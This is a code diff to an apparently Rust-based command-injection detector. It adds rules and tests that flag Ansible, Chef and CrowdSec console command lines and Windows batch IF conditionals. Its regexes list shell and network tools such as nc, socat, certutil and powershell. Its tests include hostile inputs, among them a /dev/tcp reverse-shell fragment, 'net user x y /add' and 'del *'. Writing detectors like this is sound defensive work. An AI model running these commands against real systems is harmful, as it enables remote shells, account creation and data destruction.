@@ -23,8 +23,9 @@ use std::borrow::Cow;
 
 pub(crate) struct Cmdi {
     rules: Rules,
-    /// JavaScript, and a command opening a line, which are an injection outside a JSON text field,
-    /// where code samples, logs and documents do not travel.
+    /// JavaScript, a command opening a line, batch conditionals, and values that are an automation
+    /// tool's command line: an injection outside a JSON text field, where code samples, logs, documents
+    /// and job definitions do not travel.
     strict_rules: Rules,
 }
 
@@ -38,6 +39,16 @@ const JS_CODE: &str = r"\bnew\s+function\s*\(|module\s*\.\s*exports\s*=|\bconsol
 /// Commands that are an attack after a separator when an argument shape follows (also what the
 /// PHP check looks for in `system(...)`).
 pub(crate) const STRONG: &str = r"(?:whoami|uname|ifconfig|ipconfig|wget|curl|nc|ncat|netcat|socat|telnet|bash|sh|zsh|ksh|dash|csh|tcsh|python[23]?|perl|ruby|php|lua|irb|nslookup|dig|ping|passwd|shutdown|reboot|nohup|strace|ltrace|gdb|vim?|ex|gcc|c89|c99|cc|rmt|perf|pipx?|pip3|ansible(?:-[a-z]+)?|chef(?:-[a-z]+)?|cscli|cpulimit|flock|visudo|ssh-copy-id|uconv|lwp-(?:download|request)|tftp|mkfifo|chmod|chown|crontab|sudo|base64|xxd|powershell|pwsh|cmd|certutil|mshta|regsvr32|rundll32|bitsadmin|wmic|regedit|netsh|tasklist|taskkill|systeminfo|schtasks|bcdboot|bcdedit|cscript|wscript|msiexec|forfiles|nmap|env|top|id|rc|ll|systemctl|dd|awk|sed|xargs|busybox|timeout|time|sleep|net1?\s+(?:user|localgroup|view|use|share)|reg\s+(?:add|query|delete|save)|at\s+\d{1,2}(?::\d\d)?(?:\s*[ap]m)?|echo|cat|ls|rm|cp|mv|touch|kill|pkill|killall|ps|find|grep|head|tail|more|less|cut|sort|tr|tee|tar|zip|unzip|gzip|date|file|stat|type|dir|del|copy|set|export|unset|alias|source|exec|eval|git|docker|kubectl|openssl|ssh|scp|ftp|rsync|mount)";
+
+/// A value that starts with a configuration-management console or CLI (`ansible-console`,
+/// `chef-shell`, `cscli alerts list`).
+const AUTOMATION_TOOL: &str = r"^\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:ansible-[a-z]+|chef-[a-z]+|cscli)(?:\s|$)";
+
+/// Whether a value's first word names one of [`AUTOMATION_TOOL`]'s consoles (the wake test).
+fn is_automation_tool(word: &[u8]) -> bool {
+    let starts = |p: &[u8]| word.len() > p.len() && word[..p.len()].eq_ignore_ascii_case(p);
+    starts(b"ansible-") || starts(b"chef-") || word.eq_ignore_ascii_case(b"cscli")
+}
 
 /// Commands that are an attack after a separator whatever their arguments.
 const DANGEROUS: &str = r"(?:whoami|uname|ifconfig|ipconfig|wget|curl|nc|ncat|netcat|socat|telnet|bash|sh|zsh|ksh|python[23]?|perl|ruby|php|nslookup|ping|powershell|pwsh|certutil|mshta|regsvr32|rundll32|bitsadmin|wmic|systeminfo|lwp-download|tftp|ssh-copy-id|cmd)";
@@ -285,6 +296,12 @@ impl Cmdi {
                 &[
                     (JS_CODE, High, 0.85, "server-side JavaScript code injection"),
                     (strong_on_a_line.as_str(), Critical, 0.9, "command after a shell separator"),
+                    // Ansible, Chef and CrowdSec consoles run anything on every managed host;
+                    // their hyphenated names are no word of prose.
+                    (AUTOMATION_TOOL, High, 0.7, "automation tool command line"),
+                    // Batch `IF a==b command` with any command: in a URL, header or form there is
+                    // no script for it to be a line of.
+                    (r"\bif\s+(?:/i\s+)?(?:not\s+)?[^\s=]+\s*==\s*[^\s=]+\s+[a-z@(]", High, 0.7, "Windows batch IF"),
                 ],
             )?,
         })
@@ -431,6 +448,9 @@ impl Check for Cmdi {
             return false;
         }
         let word_len = text[i..].iter().take(33).take_while(|&&c| c > b' ').count();
+        if is_automation_tool(&text[i..i + word_len]) {
+            return true;
+        }
         let arg = skip_space(text, i + word_len);
         if word_len > 32 || arg == i + word_len || arg >= text.len() {
             return false;
@@ -634,6 +654,26 @@ mod tests {
             "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242",
         ] {
             assert!(flags("attack.cmdi", v), "{v}");
+        }
+    }
+
+    #[test]
+    fn tool_command_lines_and_batch_conditionals_outside_json_text() {
+        use crate::fields::Part;
+        for v in ["ansible-playbook site.yml -i hosts", "chef-shell", "ansible-console", "cscli decisions delete --all", "/usr/bin/ansible-pull -U x"] {
+            assert!(flags("attack.cmdi", v), "{v}");
+            assert!(flags_at("attack.cmdi", Part::Body, v), "{v} in a form");
+        }
+        assert!(!flags_in_json("attack.cmdi", "chef-client"), "a job definition in a JSON text field");
+        for v in ["ansible", "chef", "the chef-shell docs", "ansible-lint-report.txt", "chef-de-cuisine"] {
+            assert!(!flags("attack.cmdi", v), "{v}");
+        }
+        for v in ["if a==b net user x y /add", "if %x%==1 del *", "if /i \"%u%\"==\"a\" start calc"] {
+            assert!(flags("attack.cmdi", v), "{v}");
+        }
+        assert!(!flags_in_json("attack.cmdi", "In C, if a==b fails for floats; use an epsilon"), "prose about code in a JSON text field");
+        for v in ["if a == b", "what if x==y?", "a==b if you like"] {
+            assert!(!flags("attack.cmdi", v), "{v}");
         }
     }
 
